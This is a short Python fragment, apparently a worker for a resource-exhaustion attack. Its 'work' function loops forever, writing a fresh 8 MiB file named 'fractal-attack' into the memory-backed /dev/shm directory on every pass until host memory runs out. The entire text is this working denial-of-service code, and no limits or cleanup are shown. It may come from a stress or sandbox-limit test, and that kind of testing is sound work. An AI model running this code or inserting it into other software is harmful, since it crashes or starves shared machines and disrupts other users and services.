import os


def work(x):
    number = 0
    while True:
        number += 1
        with open(f"/dev/shm/fractal-attack-{os.getpid()}-{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
